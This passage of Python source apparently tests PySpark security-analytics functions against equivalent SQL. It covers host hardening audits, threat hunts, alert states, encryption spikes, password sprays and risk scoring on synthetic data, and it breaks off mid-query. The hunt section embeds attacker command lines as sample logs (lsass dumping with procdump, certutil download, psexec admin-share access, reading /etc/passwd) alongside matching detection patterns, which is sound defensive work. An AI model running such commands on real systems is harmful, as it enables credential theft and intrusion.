@query(f"""{T}, n AS (SELECT user_id, event_id, weight, row_number() OVER (PARTITION BY user_id ORDER BY us, event_id) AS seen FROM t)
SELECT user_id, event_id, CASE WHEN seen >= 5 THEN 'BRUTE_FORCE' ELSE 'SCANNER' END AS intent, CAST(CASE WHEN seen >= 5 THEN least(80, weight + 20) ELSE weight END AS INTEGER) AS score FROM n""")
def honeypot_escalation(spark, sf_dir):
    seen = F.row_number().over(windows.ordered(["user_id"])) >= 5
    return telemetry(spark, sf_dir).select("user_id", "event_id", F.when(seen, "BRUTE_FORCE").otherwise("SCANNER").alias("intent"), F.when(seen, F.least(F.lit(80), F.col("weight") + 20)).otherwise(F.col("weight")).alias("score"))


@query("SELECT path, excluded FROM (SELECT '/var/' || s_nationkey || CASE s_suppkey % 5 WHEN 0 THEN '/a.log' WHEN 1 THEN '/__pycache__/x.py' WHEN 2 THEN '/wtmp' WHEN 3 THEN '/a.logs' ELSE '/keep~' END AS path, s_suppkey % 5 <> 3 AS excluded FROM supplier) GROUP BY ALL")
def excluded_paths(spark, sf_dir):
    n = F.col("s_suppkey") % 5
    path = _text(["/var/", F.col("s_nationkey"), F.when(n == 0, "/a.log").when(n == 1, "/__pycache__/x.py").when(n == 2, "/wtmp").when(n == 3, "/a.logs").otherwise("/keep~")])
    return read(spark, sf_dir, "supplier").select(path.alias("path")).distinct().withColumn("excluded", snapshots.excluded(F.col("path")))


# -- audit ------------------------------------------------------------------------------------


def _audit(spark, sf_dir) -> DataFrame:
    """Facts of hosts made of suppliers: one host a supplier."""
    s = read(spark, sf_dir, "supplier").select(_text(["s", F.col("s_suppkey")]).alias("host"), F.col("s_suppkey").alias("k"), F.col("s_nationkey").alias("n"))
    every = lambda *rows: F.explode(F.array(*rows))
    st = lambda **c: F.struct(*[(F.lit(v) if not isinstance(v, F.Column) else v).alias(x) for x, v in c.items()])
    number = lambda c: c.cast("string")
    facts = s.select("host", every(st(key="permitrootlogin", value=F.when(F.col("k") % 2 == 0, "no").otherwise("yes")), st(key="maxauthtries", value=number(F.col("n") % 12)), st(key="kernel.randomize_va_space", value=number(F.col("k") % 3))).alias("_f")).select("host", "_f.*")
    settings = s.filter("k % 4 <> 3").select("host", every(st(file="/etc/login.defs", key="PASS_MAX_DAYS", value=number(F.col("n") * 10)), st(file="/etc/login.defs", key="PASS_MIN_DAYS", value=number(F.col("k") % 2)), st(file="/etc/security/pwquality.conf", key="minlen", value=number(F.col("n")))).alias("_f")).select("host", "_f.*")
    texts = s.select("host", every(st(file="/etc/pam.d/common-auth", text=F.when(F.col("n") % 2 == 0, "auth pam_faillock.so").otherwise("auth pam_unix.so")), st(file="/etc/audit/audit.rules", text=F.when(F.col("n") % 3 == 0, "-D\n-b 1\n-w /etc/passwd").otherwise("-D"))).alias("_f")).select("host", "_f.*")
    modes = s.select("host", every(st(path="/etc/passwd", mode=F.when(F.col("k") % 5 == 0, 0o666).otherwise(0o644), kind="file"), st(path="/etc/shadow", mode=F.lit(0o640), kind="file"), st(path="/tmp", mode=F.when(F.col("n") % 4 == 0, 0o777).otherwise(0o1777), kind="folder"), st(path="/etc/crontab", mode=F.when(F.col("k") % 6 == 0, 0o664).otherwise(0o600), kind="file")).alias("_f")).select("host", "_f.*")
    ports = s.select("host", F.explode(F.when(F.col("n") % 3 == 0, F.array(F.lit(23), F.lit(6379))).otherwise(F.array(F.lit(22)))).alias("port"))
    commands = s.select("host", every(st(name="auditctl", ok=F.col("k") % 2 == 1), st(name="nft", ok=F.col("n") % 5 == 0)).alias("_f")).select("host", "_f.*")
    users = s.select("host", every(st(name="root", uid=F.lit(0), shell="/bin/bash", home_mode=0o700, password="x"), st(name="toor", uid=F.when(F.col("k") % 8 == 0, 0).otherwise(1001), shell="/bin/bash", home_mode=F.when(F.col("n") % 6 == 0, 0o775).otherwise(0o750), password=F.when(F.col("k") % 9 == 0, "").otherwise("y")), st(name="www", uid=F.lit(33), shell=F.when(F.col("n") % 7 == 0, "/bin/sh").otherwise("/sbin/nologin"), home_mode=0o755, password="*")).alias("_f")).select("host", "_f.*")
    all_hosts = s.select("host")
    known = hosts.audit(facts, hosts.SSH_CHECKS[:1] + hosts.SSH_CHECKS[4:5] + hosts.SYSCTL_CHECKS[:1]).select("host", "check_id", F.lit("settings").alias("category"), F.lit("high").alias("severity"), "status", F.col("lost").cast("int").alias("lost"))
    parts = [audits.password_policy(all_hosts, settings, texts), audits.filesystem(all_hosts, modes), audits.services(all_hosts, ports, commands), audits.audit_logging(all_hosts, commands, texts), audits.accounts(all_hosts, users)]
    for part in parts:
        known = known.unionByName(part)
    return known


_PF = "CASE WHEN {0} THEN 'PASS' ELSE '{1}' END"
_AUDIT = [
    ("SSH-01", _PF.format("k % 2 = 0", "FAIL"), 20), ("SSH-05", _PF.format("n % 12 <= 6", "FAIL"), 10), ("KRN-01", _PF.format("k % 3 = 2", "FAIL"), 15),
    ("PAM-01", f"CASE WHEN k % 4 = 3 THEN 'SKIP' ELSE {_PF.format('n * 10 <= 90', 'FAIL')} END", 10), ("PAM-02", f"CASE WHEN k % 4 = 3 THEN 'SKIP' ELSE {_PF.format('k % 2 >= 1', 'FAIL')} END", 5),
    ("PAM-03", "CASE WHEN k % 4 = 3 THEN 'SKIP' ELSE 'WARN' END", 5), ("PAM-04", f"CASE WHEN k % 4 = 3 THEN 'SKIP' ELSE {_PF.format('n >= 12', 'FAIL')} END", 10),
    ("PAM-05", _PF.format("n % 2 = 0", "FAIL"), 15), ("PAM-06", "'WARN'", 5), ("FS-01", _PF.format("k % 5 <> 0", "FAIL"), 15), ("FS-02", "'PASS'", 15), ("FS-03", "'SKIP'", 15), ("FS-04", "'SKIP'", 15),
    ("FS-05", _PF.format("k % 5 <> 0", "FAIL"), 15), ("FS-06", _PF.format("n % 4 <> 0", "FAIL"), 10), ("CRN-01", _PF.format("k % 6 <> 0", "FAIL"), 15), ("CRN-02", "'WARN'", 5), ("CRN-03", "'INFO'", 0),
    ("SVC-02", _PF.format("n % 5 = 0", "WARN"), 10), ("AUD-01", _PF.format("k % 2 = 1", "WARN"), 10), ("AUD-02", f"CASE WHEN k % 2 = 0 THEN 'SKIP' ELSE {_PF.format('n % 3 = 0', 'WARN')} END", 5),
    ("AUD-03", f"CASE WHEN k % 2 = 0 THEN 'SKIP' ELSE {_PF.format('n % 3 = 0', 'WARN')} END", 10), ("ACC-01", _PF.format("k % 8 <> 0", "FAIL"), 25), ("ACC-02", _PF.format("n % 7 <> 0", "WARN"), 10),
    ("ACC-03", _PF.format("k % 9 <> 0", "FAIL"), 25), ("ACC-04", _PF.format("n % 6 <> 0 OR k % 8 = 0", "WARN"), 5),
]
_CHECKED = "WITH s AS (SELECT 's' || s_suppkey AS host, s_suppkey AS k, s_nationkey AS n FROM supplier), a AS (" + " UNION ALL ".join(f"SELECT host, '{c}' AS check_id, {status} AS status, {points} AS points FROM s" for c, status, points in _AUDIT)
_CHECKED += " UNION ALL SELECT host, 'SVC-23', 'FAIL', 20 FROM s WHERE n % 3 = 0 UNION ALL SELECT host, 'SVC-6379', 'FAIL', 15 FROM s WHERE n % 3 = 0 UNION ALL SELECT host, 'SVC-01', 'PASS', 0 FROM s WHERE n % 3 <> 0), r AS (SELECT host, check_id, status, CASE WHEN status IN ('FAIL', 'WARN') THEN points ELSE 0 END AS lost FROM a)"


@query(f"{_CHECKED} SELECT host, check_id, status, lost FROM r")
def configuration_audit(spark, sf_dir):
    return _audit(spark, sf_dir).select("host", "check_id", "status", "lost")


@query(f"""{_CHECKED} SELECT host, CAST(sum(lost) AS BIGINT) AS points_lost, count(*) AS checks, count(*) FILTER (status = 'PASS') AS n_pass, count(*) FILTER (status = 'FAIL') AS n_fail, count(*) FILTER (status = 'WARN') AS n_warn,
  count(*) FILTER (status = 'SKIP') AS n_skip, count(*) FILTER (status = 'INFO') AS n_info, CAST(greatest(0, 100 - floor(100 * sum(lost) / 400.0)) AS INTEGER) AS score FROM r GROUP BY host""")
def hardening_score(spark, sf_dir):
    return audits.hardening(_audit(spark, sf_dir))


# -- hunts ------------------------------------------------------------------------------------

_HUNT_LINES = """l AS (SELECT event_id, CASE event_id % 7 WHEN 0 THEN 'ran MIMIKATZ now' WHEN 1 THEN 'procdump -ma lsass' WHEN 2 THEN 'certutil -urlcache x' WHEN 3 THEN 'net user bob' WHEN 4 THEN 'map ADMIN$ by psexec' WHEN 5 THEN 'cat /etc/passwd' ELSE 'quiet' END AS line FROM events)"""


def _hunt_lines(spark, sf_dir) -> DataFrame:
    n = F.col("event_id") % 7
    line = F.when(n == 0, "ran MIMIKATZ now").when(n == 1, "procdump -ma lsass").when(n == 2, "certutil -urlcache x").when(n == 3, "net user bob").when(n == 4, "map ADMIN$ by psexec").when(n == 5, "cat /etc/passwd").otherwise("quiet")
    return read(spark, sf_dir, "events").select("event_id", line.alias("line"))


@query(f"""WITH {_HUNT_LINES} SELECT event_id, CASE event_id % 7 WHEN 0 THEN 'CRED-01' WHEN 1 THEN 'CRED-01' WHEN 2 THEN 'EXEC-01' WHEN 4 THEN 'LMOV-01' ELSE 'DISC-01' END AS hunt,
  CASE event_id % 7 WHEN 0 THEN 'mimikatz' WHEN 1 THEN 'procdump.*lsass' WHEN 2 THEN 'certutil.*-urlcache' WHEN 3 THEN 'net user' WHEN 4 THEN 'ADMIN\\$' ELSE 'cat /etc/passwd' END AS pattern FROM l WHERE event_id % 7 < 6""")
def hunt_log_hits(spark, sf_dir):
    lines = _hunt_lines(spark, sf_dir)
    parts = [hunts.log_hits(lines, h).select("event_id", F.lit(h).alias("hunt"), "pattern") for h in hunts.LOG_PATTERNS]
    return parts[0].unionByName(parts[1]).unionByName(parts[2]).unionByName(parts[3])


_HUNTS = ["CRED-01", "EXEC-01", "EXEC-03", "PERS-01", "DISC-01", "EVAD-01", "C2-01", "LMOV-01", "EXFIL-01"]


@query(f"""{T}, h AS (SELECT user_id, {_HUNTS}[1 + user_id % 9] AS hunt, CASE WHEN user_id % 13 = 0 THEN NULL ELSE count(*) FILTER (event_type = 'error') % 5 END AS n, count(*) FILTER (event_type = 'view') % 14 AS logs, count(*) FILTER (event_type = 'signup') % 3 AS other FROM t GROUP BY user_id),
v AS (SELECT *, CASE WHEN n IS NULL THEN 'INSUFFICIENT_DATA' WHEN hunt IN ('CRED-01', 'EXEC-01', 'EVAD-01') THEN CASE WHEN n > 0 THEN 'CONFIRMED' ELSE 'NEGATIVE' END WHEN hunt IN ('EXEC-03', 'C2-01', 'EXFIL-01') THEN CASE WHEN n > 0 THEN 'SUSPECT' ELSE 'NEGATIVE' END
    WHEN hunt = 'PERS-01' THEN CASE WHEN other > 0 THEN 'CONFIRMED' WHEN n > 0 THEN 'SUSPECT' ELSE 'NEGATIVE' END WHEN hunt = 'DISC-01' THEN CASE WHEN other > 0 OR logs >= 10 THEN 'SUSPECT' ELSE 'NEGATIVE' END
    ELSE CASE WHEN logs > 0 AND other > 0 THEN 'CONFIRMED' WHEN n > 0 THEN 'SUSPECT' ELSE 'NEGATIVE' END END AS status FROM h),
c AS (SELECT *, CASE WHEN n IS NULL THEN 0 WHEN status = 'NEGATIVE' THEN CASE WHEN hunt IN ('CRED-01', 'EXEC-01', 'EVAD-01') THEN 85 WHEN hunt = 'EXFIL-01' THEN 60 ELSE 80 END
    WHEN hunt = 'CRED-01' THEN 90 WHEN hunt = 'EXEC-01' THEN least(95, 40 * n) WHEN hunt = 'EXEC-03' THEN 65 WHEN hunt = 'PERS-01' THEN CASE WHEN status = 'CONFIRMED' THEN 85 ELSE 50 END WHEN hunt = 'DISC-01' THEN 70
    WHEN hunt = 'EVAD-01' THEN 80 WHEN hunt = 'C2-01' THEN least(85, 30 * n) WHEN hunt = 'LMOV-01' THEN CASE WHEN status = 'CONFIRMED' THEN 80 ELSE 55 END ELSE 55 END AS confidence FROM v)
SELECT user_id, hunt, status, CAST(confidence AS INTEGER) AS confidence, CAST(confidence * CASE WHEN hunt IN ('CRED-01', 'C2-01', 'LMOV-01') THEN 40 WHEN hunt IN ('EXEC-03', 'DISC-01') THEN 15 ELSE 25 END // 100 * CASE status WHEN 'CONFIRMED' THEN 3 WHEN 'SUSPECT' THEN 2 ELSE 0 END AS INTEGER) AS score FROM c""")
def hunt_verdicts(spark, sf_dir):
    kind, u = F.col("event_type"), F.col("user_id")
    names = F.array(*map(F.lit, _HUNTS))
    grouped = telemetry(spark, sf_dir).groupBy("user_id").agg((F.count_if(kind == "error") % 5).alias("n"), (F.count_if(kind == "view") % 14).alias("n_logs"), (F.count_if(kind == "signup") % 3).alias("n_other"))
    evidence = grouped.select("user_id", F.get(names, (u % 9).cast("int")).alias("hunt"), F.when(u % 13 != 0, F.col("n")).alias("n_hits"), "n_logs", "n_other")
    return hunts.verdicts(evidence).select("user_id", "hunt", "status", "confidence", "score")


# -- alerts, services ---------------------------------------------------------------------------

_ACTIONS = f"""{T}, a AS (SELECT event_id, us, user_id AS alert_id, CASE k % 7 WHEN 0 THEN 'acknowledge' WHEN 1 THEN 'assign' WHEN 2 THEN 'escalate' WHEN 3 THEN 'close' WHEN 4 THEN 'false_positive' ELSE 'note' END AS action, 'p' || (k % 3) AS detail FROM t WHERE user_id % 2 = 0 AND k > 60),
n AS (SELECT *, row_number() OVER (PARTITION BY alert_id ORDER BY us, event_id) AS n FROM a)"""
_STATES = f"""WITH RECURSIVE {_ACTIONS[5:]}, step AS (SELECT n.*, 'OPEN' AS was FROM n WHERE n = 0),
r(alert_id, n, status, assignee, us) AS (
  SELECT alert_id, 0::BIGINT, 'OPEN', NULL::VARCHAR, 0::BIGINT FROM (SELECT DISTINCT alert_id FROM n)
  UNION ALL
  SELECT r.alert_id, n.n, CASE n.action WHEN 'acknowledge' THEN 'ACKNOWLEDGED' WHEN 'escalate' THEN 'ESCALATED' WHEN 'close' THEN 'CLOSED' WHEN 'false_positive' THEN 'FALSE_POSITIVE' WHEN 'assign' THEN CASE WHEN r.status = 'OPEN' THEN 'ACKNOWLEDGED' ELSE r.status END ELSE r.status END,
    CASE WHEN n.action = 'assign' THEN n.detail ELSE r.assignee END, n.us FROM r JOIN n ON r.alert_id = n.alert_id AND n.n = r.n + 1),
f AS (SELECT * FROM r QUALIFY row_number() OVER (PARTITION BY alert_id ORDER BY n DESC) = 1)"""


def _states(spark, sf_dir) -> DataFrame:
    k = F.col("k") % 7
    action = F.when(k == 0, "acknowledge").when(k == 1, "assign").when(k == 2, "escalate").when(k == 3, "close").when(k == 4, "false_positive").otherwise("note")
    log = telemetry(spark, sf_dir).filter("user_id % 2 = 0 and k > 60").select("event_id", "us", F.col("user_id").alias("alert_id"), action.alias("action"), _text(["p", F.col("k") % 3]).alias("detail"))
    return lifecycle.alert_states(log)


@query(f"{_STATES} SELECT alert_id, status, assignee, us AS last_us, n AS actions FROM f")
def alert_states(spark, sf_dir):
    return _states(spark, sf_dir)


@query(f"""{_STATES}, c AS (SELECT count(*) AS total, count(*) FILTER (status = 'OPEN') AS n_open, count(*) FILTER (status = 'ACKNOWLEDGED') AS n_acknowledged, count(*) FILTER (status = 'ESCALATED') AS n_escalated, count(*) FILTER (status = 'CLOSED') AS n_closed,
  count(*) FILTER (status = 'FALSE_POSITIVE') AS n_false_positive, avg(n * 1.5) AS latency FROM f)
SELECT total, n_open, n_acknowledged, n_escalated, n_closed, n_false_positive, n_open + n_acknowledged + n_escalated AS open,
  coalesce(round(100.0 * n_false_positive / nullif(n_closed + n_false_positive, 0), 1), 0.0) AS false_positive_rate, coalesce(round(latency, 1), 0.0) AS mean_latency_ms FROM c""")
def alert_measures(spark, sf_dir):
    return lifecycle.alert_measures(_states(spark, sf_dir).withColumn("latency_ms", F.col("actions") * 1.5))


@query(f"""{T}, s AS (SELECT DISTINCT 'svc' || (user_id // 3) AS service, user_id AS vm_id, user_id % 3 AS rank FROM t),
e AS (SELECT s.service, s.vm_id, s.rank, us, event_id FROM t JOIN s ON t.user_id = s.vm_id WHERE event_type = 'error' AND k > 50 QUALIFY row_number() OVER (PARTITION BY s.vm_id ORDER BY us, event_id) = 1),
o AS (SELECT *, row_number() OVER (PARTITION BY service ORDER BY us, event_id) AS n FROM e),
x AS (SELECT o.*, (SELECT min(s.rank) FROM s WHERE s.service = o.service AND s.rank NOT IN (SELECT p.rank FROM o p WHERE p.service = o.service AND p.n < o.n)) AS active,
  (SELECT min(s.rank) FROM s WHERE s.service = o.service AND s.rank NOT IN (SELECT p.rank FROM o p WHERE p.service = o.service AND p.n <= o.n)) AS heir FROM o)
SELECT x.service, x.vm_id, x.event_id, CASE WHEN x.rank = active THEN 'ACTIVE' ELSE 'STANDBY' END AS role_lost, coalesce(CASE WHEN x.rank = active THEN s.vm_id END, -1) AS promoted,
  CASE WHEN x.rank <> active THEN 'HEALTHY' WHEN heir IS NULL THEN 'NO_STANDBY' ELSE 'DEGRADED' END AS state FROM x LEFT JOIN s ON s.service = x.service AND s.rank = heir""")
def failovers(spark, sf_dir):
    t = telemetry(spark, sf_dir)
    services = t.select(_text(["svc", F.expr("user_id div 3")]).alias("service"), F.col("user_id").alias("vm_id"), (F.col("user_id") % 3).alias("rank")).distinct()
    events = t.filter("event_type = 'error' and k > 50").select(F.col("user_id").alias("vm_id"), "us", "event_id")
    return lifecycle.failovers(events, services).select("service", "vm_id", "event_id", "role_lost", F.coalesce("promoted", F.lit(-1)).alias("promoted"), "state")


_SPIKES = f"""WITH RECURSIVE {T[5:]}, w AS (SELECT event_id, user_id % 3 AS vm, us, 6.97 + value / 1000 AS entropy FROM t),
c AS (SELECT *, count(*) OVER (PARTITION BY vm ORDER BY us RANGE BETWEEN {15 * HOUR} PRECEDING AND CURRENT ROW) AS n_recent, count(*) OVER (PARTITION BY vm ORDER BY us RANGE BETWEEN {300 * HOUR} PRECEDING AND CURRENT ROW) AS n_all,
  avg(entropy) OVER (PARTITION BY vm ORDER BY us RANGE BETWEEN {15 * HOUR} PRECEDING AND CURRENT ROW) AS mean_entropy FROM w),
z AS (SELECT *, (n_all - n_recent) / 19.0 AS rate FROM c), h AS (SELECT *, (n_recent - rate) / greatest(1.0, sqrt(greatest(rate, 1.0))) AS z FROM z),
q AS (SELECT * FROM h WHERE n_recent >= 6 AND z >= 3 AND mean_entropy >= 7),
r(vm, us, event_id) AS (SELECT vm, min(us), arg_min(event_id, (us, event_id)) FROM q GROUP BY vm UNION ALL SELECT r.vm, n.us, n.event_id FROM r, LATERAL (SELECT us, event_id FROM q WHERE q.vm = r.vm AND q.us > r.us + {15 * HOUR} ORDER BY us, event_id LIMIT 1) n)"""


@query(f"{_SPIKES} SELECT r.vm, r.event_id, q.n_recent, round(q.z, 6) AS z FROM r JOIN q ON r.vm = q.vm AND r.event_id = q.event_id")
def encryption_spikes(spark, sf_dir):
    writes = telemetry(spark, sf_dir).select("event_id", (F.col("user_id") % 3).alias("vm"), "us", (6.97 + F.col("value") / 1000).alias("entropy"))
    return lifecycle.encryption_spikes(writes, ["vm"], window=15 * HOUR, baseline=300 * HOUR).select("vm", "event_id", "n_recent", F.round("z", 6).alias("z"))


@query(f"{T}, c AS (SELECT user_id % 5 AS vm, event_id, count(*) OVER (PARTITION BY user_id % 5 ORDER BY us RANGE BETWEEN {30 * HOUR} PRECEDING AND CURRENT ROW) AS velocity FROM t) SELECT vm, event_id, velocity FROM c WHERE velocity >= 10")
def write_velocity(spark, sf_dir):
    writes = telemetry(spark, sf_dir).withColumn("vm", F.col("user_id") % 5)
    return lifecycle.write_velocity(writes, ["vm"], 30 * HOUR).select("vm", "event_id", "velocity")


@query(f"""{T}, g AS (SELECT event_id, user_id % 8 AS src, user_id, us, us - lag(us) OVER (PARTITION BY user_id % 8 ORDER BY us, event_id) AS gap FROM t),
c AS (SELECT *, count(DISTINCT user_id) OVER w AS n_accounts, count(*) OVER w AS n_rows, stddev_pop(gap) OVER w / avg(gap) OVER w AS cv FROM g WINDOW w AS (PARTITION BY src ORDER BY us RANGE BETWEEN {4 * DAY} PRECEDING AND CURRENT ROW))
SELECT src, event_id, CAST(n_accounts AS INTEGER) AS n_accounts, n_rows FROM c WHERE n_accounts >= 2 AND (cv <= 0.7 OR n_rows >= 40) QUALIFY row_number() OVER (PARTITION BY src ORDER BY us, event_id) = 1""")
def password_sprays(spark, sf_dir):
    failures = telemetry(spark, sf_dir).withColumn("src", F.col("user_id") % 8)
    return lifecycle.password_sprays(failures, "src", "user_id", 4 * DAY, accounts=2, cv=0.7, rows=40).select("src", "event_id", "n_accounts", "n_rows")


@query("""WITH c AS (SELECT event_type <> 'view' AS attack, CASE WHEN event_type = 'view' THEN event_id % 50 = 0 ELSE event_id % 4 <> 0 END AS detected, value / 100 AS latency FROM events)
SELECT 100.0 * count(*) FILTER (attack AND detected) / count(*) FILTER (attack) AS coverage_pct, 100.0 * count(*) FILTER (NOT attack AND detected) / count(*) FILTER (NOT attack) AS false_positive_pct, round(avg(latency) FILTER (attack AND detected), 9) AS mean_latency_s FROM c""")
def replay_measures(spark, sf_dir):
    attack = F.col("event_type") != "view"
    cases = read(spark, sf_dir, "events").select(attack.alias("attack"), F.when(attack, F.col("event_id") % 4 != 0).otherwise(F.col("event_id") % 50 == 0).alias("detected"), (F.col("value") / 100).alias("latency_s"))
    return lifecycle.replay_measures(cases).withColumn("mean_latency_s", F.round("mean_latency_s", 9))


@query("""WITH e AS (SELECT event_id, CASE event_id % 5 WHEN 0 THEN 'shadow' WHEN 1 THEN 'process' WHEN 2 THEN 'process' WHEN 3 THEN 'network' ELSE 'other' END AS kind, event_id % 5 AS n FROM events)
SELECT event_id, CASE n WHEN 0 THEN 'Backup / shadow-copy destruction' WHEN 1 THEN 'Web server spawned a shell (web shell / RCE)' WHEN 2 THEN 'Execution from suspicious path' WHEN 3 THEN 'Suspicious outbound connection (possible C2)' ELSE 'other event' END AS title FROM e""")
def alert_titles(spark, sf_dir):
    n = F.col("event_id") % 5
    kind = F.when(n == 0, "shadow").when(n.isin(1, 2), "process").when(n == 3, "network").otherwise("other")
    return read(spark, sf_dir, "events").select("event_id", lifecycle.alert_title(kind, F.when(n == 1, "web_server_spawned_shell")).alias("title"))


@query("""SELECT user_id, count(*) AS alerts, count(*) FILTER (event_type = 'view') AS open, round(100.0 * count(*) FILTER (event_type = 'signup') / nullif(count(*) FILTER (event_type IN ('signup', 'purchase')), 0), 4) AS false_positive_pct,
round(avg(value), 6) AS mean_latency FROM events GROUP BY user_id""")
def alert_metrics(spark, sf_dir):
    kind = F.col("event_type")
    closed = F.count_if(kind.isin("signup", "purchase"))
    return read(spark, sf_dir, "events").groupBy("user_id").agg(F.count("*").alias("alerts"), F.count_if(kind == "view").alias("open"), F.round(F.when(closed > 0, 100.0 * F.count_if(kind == "signup") / closed), 4).alias("false_positive_pct"), F.round(F.avg("value"), 6).alias("mean_latency"))


# -- reports ------------------------------------------------------------------------------------

_WEIGHT = "CASE severity WHEN 'critical' THEN 40 WHEN 'high' THEN 25 WHEN 'medium' THEN 10 WHEN 'low' THEN 3 ELSE 0 END"
_RISK_OF = f"least(100, floor(ln(1 + coalesce(sum({_WEIGHT}), 0)::DOUBLE) / ln(401) * 100))::INTEGER"


@query(f"{_FOUND} SELECT count(*) AS findings, count(*) FILTER (severity = 'critical') AS n_critical, count(*) FILTER (severity = 'high') AS n_high, count(*) FILTER (severity = 'medium') AS n_medium, count(*) FILTER (severity = 'low') AS n_low, {_RISK_OF} AS risk FROM d")
def risk_summary(spark, sf_dir):
    return reports.risk_summary(_deduplicated(spark, sf_dir))


@query(f"{_FOUND} SELECT entity, CAST(sum({_WEIGHT} * hit_count) AS BIGINT) AS weight FROM d GROUP BY entity ORDER BY weight DESC, entity LIMIT 10")
def entity_weights(spark, sf_dir):
    return reports.entity_weights(_deduplicated(spark, sf_dir))


@query(f"""{_FOUND}, a AS (SELECT * FROM f WHERE event_id % 3 = 0), b AS (SELECT * FROM f WHERE event_id % 3 <> 0 AND event_id % 400 < 6), ra AS (SELECT {_RISK_OF} AS r FROM a), rb AS (SELECT {_RISK_OF} AS r FROM b)
SELECT (SELECT count(DISTINCT fingerprint) FROM b WHERE fingerprint NOT IN (SELECT fingerprint FROM a)) AS new, (SELECT count(DISTINCT fingerprint) FROM a WHERE fingerprint NOT IN (SELECT fingerprint FROM b)) AS resolved,
  (SELECT count(DISTINCT fingerprint) FROM a WHERE fingerprint IN (SELECT fingerprint FROM b)) AS persisting, (SELECT count(*) FROM b WHERE fingerprint NOT IN (SELECT fingerprint FROM a)) AS new_findings,
  (SELECT count(*) FROM b WHERE severity = 'critical' AND fingerprint NOT IN (SELECT fingerprint FROM a)) AS new_critical, ra.r AS previous_risk, rb.r AS current_risk, rb.r - ra.r AS change,
  CASE WHEN rb.r - ra.r < -5 THEN 'IMPROVING' WHEN rb.r - ra.r > 5 THEN 'WORSENING' ELSE 'STABLE' END AS trend FROM ra, rb""")
def risk_trend(spark, sf_dir):
    found = _findings(spark, sf_dir)
    return reports.trend(found.filter("event_id % 3 = 0"), found.filter("event_id % 3 <> 0 and event_id % 400 < 6"))


@query(f"""{_FOUND} SELECT 'total' AS field, 'findings' AS value, count(*) AS n FROM d UNION ALL SELECT 'total', 'hits', CAST(sum(hit_count) AS BIGINT) FROM d
UNION ALL SELECT 'severity', severity, CAST(sum(hit_count) AS BIGINT) FROM d GROUP BY severity UNION ALL SELECT 'tool', tool, count(*) FROM d GROUP BY tool""")
def correlation_summary(spark, sf_dir):
    return reports.correlation_summary(_deduplicated(spark, sf_dir))


@query(f"{_FOUND} SELECT entity, CAST(sum(score) AS BIGINT) AS score, count(*) AS findings FROM d GROUP BY entity ORDER BY score DESC, entity LIMIT 50")
def screen_entities(spark, sf_dir):
    return reports.screen_entities(_deduplicated(spark, sf_dir))


@query(f"""{_FOUND}, g AS (SELECT entity, count(DISTINCT tactic) FILTER (tactic <> 'Unknown') AS tactics, CAST(sum(score) AS BIGINT) AS base_score FROM d GROUP BY entity)
SELECT entity, tactics, base_score, 1 + 0.5::DOUBLE * (tactics - 2) AS multiplier, CAST(floor(base_score * (1 + 0.5 * (tactics - 2))) AS BIGINT) AS final_score FROM g WHERE tactics >= 3 ORDER BY final_score DESC, entity LIMIT 20""")
def screen_campaigns(spark, sf_dir):
    return reports.screen_campaigns(_deduplicated(spark, sf_dir))


@query(f"""{_FOUND} SELECT fingerprint, first_us, severity, score FROM d WHERE severity IN ('high', 'critical') ORDER BY CASE severity WHEN 'critical' THEN 4 ELSE 3 END DESC, score DESC, fingerprint, first_us LIMIT 100""")
def worst_findings(spark, sf_dir):
    found = reports.at_least(_deduplicated(spark, sf_dir), "high")
    return found.orderBy(*reports.finding_order(), "first_us").limit(100).select("fingerprint", "first_us", "severity", "score")


@query(f"""{T} SELECT 'event_type' AS field, event_type AS value, count(*) AS n, CAST(sum(weight) AS BIGINT) AS score FROM t GROUP BY event_type UNION ALL SELECT 'severity', severity, count(*), CAST(sum(weight) AS BIGINT) FROM t GROUP BY severity""")
def field_counts(spark, sf_dir):
    return reports.counts_by(telemetry(spark, sf_dir), ["event_type", "severity"], "weight")


_TIMELINE = f"""{_REASONS}, {_FILES}, v AS (SELECT create_us AS us, 'process' AS source, 'execution' AS category, CASE WHEN exe = '/tmp/x' THEN 'critical' ELSE 'info' END AS severity, CASE WHEN exe = '/tmp/x' THEN 40 ELSE 0 END AS score FROM p
UNION ALL SELECT 2000000000::BIGINT, 'filesystem', 'file_modify', 'info', 0 FROM f UNION ALL SELECT (2000 + (o_orderkey % 3) * 2000)::BIGINT * 1000000, 'filesystem', 'file_create', CASE o_orderkey % 3 WHEN 1 THEN 'low' ELSE 'medium' END, CASE o_orderkey % 3 WHEN 1 THEN 5 ELSE 15 END FROM f WHERE o_orderkey % 3 > 0
UNION ALL SELECT create_us, 'network', 'network_connect', CASE WHEN pid % 4 = 0 THEN 'medium' WHEN pid % 3 = 0 THEN 'info' ELSE 'low' END, CASE WHEN pid % 4 = 0 THEN 10 WHEN pid % 3 = 0 THEN 0 ELSE 5 END FROM p)"""


def _timeline(spark, sf_dir) -> DataFrame:
    p = _processes(spark, sf_dir)
    n = F.col("o_orderkey") % 3
    files = _files(spark, sf_dir).select("path", F.lit(2000).cast("long").alias("mtime"), (2000 + n * 2000).cast("long").alias("ctime"))
    connections = p.select(F.col("create_us").alias("us"), F.when(F.col("pid") % 3 == 0, "LISTEN").otherwise("ESTABLISHED").alias("status"), F.col("name").alias("process"), F.lit("l").alias("local"), F.lit("1.1.1.1").alias("remote_ip"), F.when(F.col("pid") % 4 == 0, 4444).otherwise(443).alias("remote_port"))
    return snapshots.process_events(p).unionByName(snapshots.file_events(files)).unionByName(snapshots.connection_events(connections))


@query(f"""{_TIMELINE} SELECT 'severity' AS field, severity AS value, count(*) AS n, CAST(sum(score) AS BIGINT) AS score FROM v GROUP BY severity UNION ALL SELECT 'category', category, count(*), CAST(sum(score) AS BIGINT) FROM v GROUP BY category
UNION ALL SELECT 'source', source, count(*), CAST(sum(score) AS BIGINT) FROM v GROUP BY source""")
def timeline_summary(spark, sf_dir):
    return snapshots.timeline_counts(_timeline(spark, sf_dir))


@query(f"{_TIMELINE} SELECT count(*) AS events, min(us) AS first_us, max(us) AS last_us, CAST(sum(score) AS BIGINT) AS score FROM v WHERE us >= 3000000000")
def timeline_span(spark, sf_dir):
    return snapshots.timeline_span(snapshots.between(_timeline(spark, sf_dir), since=3000 * SECOND))


@query(f"""{T}, a AS (SELECT event_id, us, 'v' || (k % 40) AS value, CASE WHEN event_id % 2 = 0 THEN 'ip' ELSE 'domain' END AS type, k AS score, event_type AS source, event_id % 5 < 2 AS old FROM t)
